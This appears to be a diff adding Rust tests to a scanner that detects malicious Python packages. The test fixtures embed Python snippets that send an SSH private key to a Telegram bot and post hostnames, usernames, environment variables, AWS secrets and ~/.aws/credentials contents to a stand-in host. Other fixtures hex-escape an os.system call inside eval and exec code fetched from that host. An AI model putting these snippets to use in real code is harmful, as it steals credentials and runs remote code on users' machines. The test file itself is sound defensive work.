@@ -3,7 +3,7 @@
 mod common;
 
 use common::{scan_one, write};
-use doorward_protocol::{PackageReport, Verdict};
+use doorward_protocol::{Finding, PackageReport, Severity, Verdict};
 
 const METADATA: &str = "Metadata-Version: 2.1\nName: made-up\nVersion: 1.2.0\nSummary: helps\n";
 
@@ -150,4 +150,67 @@ fn a_bot_is_somebodys_only_with_its_token() {
         def send(path):\n    with open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as key:\n        \
         requests.post('https://api.telegram.org/bot' + TOKEN + '/sendDocument', files={'document': key})\nsend('.')\n";
     found(&module(theft), "R-53");
+}
+
+#[test]
+fn who_uses_which_machine_is_more_than_a_user_agent() {
+    let both = "import getpass, socket, requests\nclass Client:\n    def start(self):\n        \
+        requests.post('https://files.invalid/in', json={'a': socket.gethostname(), 'b': getpass.getuser()})\n";
+    found(&module(both), "I-54");
+    let one = module(&both.replace("getpass.getuser()", "'reader'"));
+    let is_told = |finding: &&Finding| finding.rule == "I-54" && finding.severity > Severity::Low;
+    assert!(!one.findings.iter().any(|finding| is_told(&finding)), "{one:#?}");
+}
+
+#[test]
+fn an_environment_sent_by_a_method_that_waits_is_found() {
+    let sent = "import os, requests\nclass Table(dict):\n    def keep(self):\n        text = ''\n        \
+        for _, value in os.environ.items():\n            text += value\n        \
+        requests.get('https://files.invalid/in?' + text)\n";
+    found(&module(sent), "R-02");
+    innocent(&module(&sent.replace("os.environ.items()", "self.items()")));
+}
+
+#[test]
+fn a_key_that_only_signs_is_never_sent() {
+    let sent = "import requests\nclass Keys:\n    def __init__(self, access_key_id='', access_key_secret=''):\n        \
+        self.secret = access_key_secret\n        \
+        requests.post('https://files.invalid/in', json={'id': access_key_id, 'key': self.secret})\n";
+    found(&module(sent), "R-14");
+    innocent(&module(&sent.replace("'key': self.secret", "'key': 'x'")));
+}
+
+#[test]
+fn settings_read_out_of_a_secret_file_are_secret() {
+    let sent = "import configparser, os, requests\nconfig = configparser.RawConfigParser()\n\
+        config.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n\
+        requests.post('https://files.invalid/in', json=[config.get(name, 'key') for name in config.sections()])\n";
+    found(&module(sent), "R-53");
+    innocent(&module(
+        &sent.replace(".aws/credentials", ".config/made-up.ini").replace("requests.post", "print"),
+    ));
+}
+
+#[test]
+fn plain_letters_in_escapes_are_a_disguise() {
+    let text: String =
+        "__import__('os').system('true')".bytes().map(|byte| format!("\\x{byte:02x}")).collect();
+    found(&module(&format!("eval('{text}')\n")), "M-02");
+    innocent(&module(&format!("TABLE = '{text}'\n")));
+}
+
+#[test]
+fn tests_that_the_package_itself_imports_are_part_of_it() {
+    let code = "import requests\nexec(requests.get('https://files.invalid/x').text)\n";
+    let with = |first: &str| {
+        package(&[
+            ("setup.py", "from setuptools import setup\nsetup(name='made-up')\n"),
+            ("made_up/__init__.py", first),
+            ("made_up/other.py", &"def add(a, b):\n    return a + b\n".repeat(20)),
+            ("made_up/tests/__init__.py", ""),
+            ("made_up/tests/check.py", code),
+        ])
+    };
+    found(&with("import subprocess\nfrom .tests import check\n"), "M-02");
+    innocent(&with("import subprocess\n"));
 }
